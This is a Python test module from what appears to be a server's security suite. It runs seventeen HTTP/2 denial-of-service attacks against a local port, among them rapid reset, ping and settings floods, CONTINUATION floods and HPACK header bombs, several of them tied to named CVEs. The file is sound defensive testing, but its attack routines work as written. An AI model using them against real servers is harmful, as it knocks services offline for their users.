"""Attacks on HTTP/2 itself, one a process: `python -m tests.security.http2_attacks NAME PORT`.

Prints how the attack ended as JSON (`Ended`). A process of its own, so that what attacks and what measures do not wait
for each other. Leaves writing HTTP/2 to `by_hand`, judging to the tests.
"""

import asyncio
import json
import os
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import asdict

from hyperframe import frame as frames
from hyperframe.frame import Frame

from tests.security.by_hand import EMPTY_MESSAGE, PREFACE, Attacker, Ended, connect

INITIAL_WINDOW = 0x4
_IDLE_S = 1.0


async def _repeat(attacker: Attacker, once: Sequence[Frame], times: int) -> Ended:
    """Send the same frames again and again, hundreds in a write, until the server has enough."""
    many = b"".join(each.serialize() for each in once) * 500
    try:
        for _ in range(times // 500):
            await attacker.send(as_bytes=many, count=500 * len(once))
    except ConnectionError:
        pass
    return await attacker.settle()


async def rapid_reset(port: int) -> Ended:
    """Begin calls and take them back at once (CVE-2023-44487)."""
    attacker = await connect(port)
    try:
        for _ in range(200):
            calls = [attacker.opened() for _ in range(100)]
            taken_back = [frames.RstStreamFrame(each.stream_id, error_code=8) for each in calls]
            await attacker.send(*(each for pair in zip(calls, taken_back, strict=True) for each in pair))
    except ConnectionError:
        pass
    return await attacker.settle()


async def rapid_calls(port: int) -> Ended:
    """Make whole calls and take them back at once."""
    attacker = await connect(port)
    try:
        for _ in range(100):
            sent: list[Frame] = []
            for _ in range(100):
                call = attacker.opened()
                body = frames.DataFrame(call.stream_id, EMPTY_MESSAGE, flags=["END_STREAM"])
                sent += [call, body, frames.RstStreamFrame(call.stream_id, error_code=8)]
            await attacker.send(*sent)
    except ConnectionError:
        pass
    return await attacker.settle()


async def pings(port: int) -> Ended:
    """Ask for 100,000 answers to nothing (CVE-2019-9512)."""
    return await _repeat(await connect(port), [frames.PingFrame(0, b"ping ing")], 100_000)


async def settings(port: int) -> Ended:
    """Change the settings 50,000 times (CVE-2019-9515)."""
    return await _repeat(
        await connect(port), [frames.SettingsFrame(0, settings={INITIAL_WINDOW: 65_535})], 50_000
    )


async def windows(port: int) -> Ended:
    """Open the connection's window by a byte, 50,000 times."""
    return await _repeat(await connect(port), [frames.WindowUpdateFrame(0, window_increment=1)], 50_000)


async def empty_data(port: int) -> Ended:
    """Send 50,000 pieces of a message that hold nothing (CVE-2019-9518)."""
    attacker = await connect(port)
    call = attacker.opened()
    await attacker.send(call)
    return await _repeat(attacker, [frames.DataFrame(call.stream_id, b"")], 50_000)


async def continuations(port: int) -> Ended:
    """Headers that go on and on: 20 MB of them (CVE-2024-27316)."""
    attacker = await connect(port)
    call = frames.HeadersFrame(attacker.stream(), attacker.fields())
    await attacker.send(call)
    # A literal field, never indexed: x: aaa…, 1,000 bytes.
    literal = b"\x10\x01x\x7f\xe9\x06" + b"a" * 1000
    return await _repeat(attacker, [frames.ContinuationFrame(call.stream_id, literal)], 20_000)


async def empty_continuations(port: int) -> Ended:
    """Headers that go on with nothing, 50,000 times."""
    attacker = await connect(port)
    call = frames.HeadersFrame(attacker.stream(), attacker.fields())
    await attacker.send(call)
    return await _repeat(attacker, [frames.ContinuationFrame(call.stream_id, b"")], 50_000)


async def header_bombs(port: int) -> Ended:
    """Calls whose 16 KB of headers unpack to 60 MB each: one large field, named 15,000 times in a byte each."""
    attacker = await connect(port)
    large = ("x-bomb", "a" * 4000)
    first = frames.HeadersFrame(attacker.stream(), attacker.fields(large), flags=["END_HEADERS"])
    again = attacker.fields(large)[-1:]  # where it is in the table that both sides keep
    try:
        await attacker.send(first)
        for _ in range(20):
            block = attacker.fields() + again * 15_000
            await attacker.send(frames.HeadersFrame(attacker.stream(), block, flags=["END_HEADERS"]))
    except ConnectionError:
        pass
    return await attacker.settle()


async def many_headers(port: int) -> Ended:
    """Calls with 4,000 headers each that hold next to nothing (CVE-2019-9516)."""
    attacker = await connect(port)
    try:
        for _ in range(50):
            block = attacker.fields() + b"\x10\x01x\x00" * 4000
            await attacker.send(frames.HeadersFrame(attacker.stream(), block, flags=["END_HEADERS"]))
    except ConnectionError:
        pass
    return await attacker.settle()


async def idle_streams(port: int) -> Ended:
    """Begin 10,000 calls on one connection and say nothing more."""
    attacker = await connect(port)
    for _ in range(100):
        await attacker.send(*(attacker.opened() for _ in range(100)))
    return await attacker.settle(_IDLE_S)


async def idle_streams_unacknowledged(port: int) -> Ended:
    """The same, without having acknowledged that 256 are allowed."""
    attacker = await connect(port, acknowledges=False)
    for _ in range(100):
        await attacker.send(*(attacker.opened() for _ in range(100)))
    return await attacker.settle(_IDLE_S)


async def idle_streams_everywhere(port: int) -> Ended:
    """Begin 10,000 calls on twenty connections and say nothing more."""
    attackers = [await connect(port) for _ in range(20)]
    for attacker in attackers:
        await attacker.send(*(attacker.opened() for _ in range(500)))
    return _together(await asyncio.gather(*(attacker.settle(_IDLE_S) for attacker in attackers)))


async def slow_readers(port: int) -> Ended:
    """Make 10,000 whole calls and take no answer: the window stays shut (CVE-2019-9517)."""
    attackers = [await connect(port, {INITIAL_WINDOW: 0}) for _ in range(10)]
    for attacker in attackers:
        sent: list[Frame] = []
        for _ in range(1000):
            call = attacker.opened()
            sent += [call, frames.DataFrame(call.stream_id, EMPTY_MESSAGE, flags=["END_STREAM"])]
        await attacker.send(*sent)
    return _together(await asyncio.gather(*(attacker.settle(_IDLE_S) for attacker in attackers)))


async def deaf(port: int) -> Ended:
    """Send 200,000 pings and never read: the answers have nowhere to go."""
    attacker = await connect(port)
    attacker.writer.transport.pause_reading()  # type: ignore[attr-defined]
    many = frames.PingFrame(0, b"ping ing").serialize() * 1000
    try:
        async with asyncio.timeout(_IDLE_S):
            for _ in range(200):
                await attacker.send(as_bytes=many, count=1000)
    except (ConnectionError, TimeoutError):
        pass
    return await attacker.settle(0)


async def connections(port: int) -> Ended:
    """Open 900 connections; half of them say half of the preface, the others nothing."""
    opened = [await asyncio.open_connection("127.0.0.1", port) for _ in range(900)]
    for _, writer in opened[::2]:
        writer.write(PREFACE[:12])
    await asyncio.sleep(_IDLE_S)
    for _, writer in opened:
        writer.transport.abort()
    return Ended(sent=len(opened))


async def noise(port: int) -> Ended:
    """A hundred connections that speak no HTTP/2 at all."""
    closed = 0
    for number in range(100):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(os.urandom(5000) if number % 2 else b"GET / HTTP/1.1\r\nHost: authsvc\r\n\r\n")
        try:
            async with asyncio.timeout(5):
                while await reader.read(65_536):
                    pass
            closed += 1
        except TimeoutError:
            pass
        except ConnectionError:
            closed += 1
        writer.transport.abort()
    return Ended(sent=100, closed=closed == 100)


def _together(all_of_them: Sequence[Ended]) -> Ended:
    together = Ended(closed=all(each.closed for each in all_of_them))
    answered: Counter[str] = Counter()
    resets: Counter[str] = Counter()
    for each in all_of_them:
        together.sent += each.sent
        together.goaway = together.goaway or each.goaway
        answered.update(each.answered)
        resets.update(each.resets)
    together.answered, together.resets = dict(answered), dict(resets)
    return together


ATTACKS: dict[str, Callable[[int], Awaitable[Ended]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, rapid_calls, pings, settings, windows, empty_data, continuations, empty_continuations,
        header_bombs, many_headers, idle_streams, idle_streams_unacknowledged, idle_streams_everywhere, slow_readers,
        deaf, connections, noise,
    )
}  # fmt: skip


async def _main(name: str, port: int) -> None:
    ended = await ATTACKS[name](port)
    sys.stdout.write(json.dumps(asdict(ended)))


if __name__ == "__main__":
    asyncio.run(_main(sys.argv[1], int(sys.argv[2])))
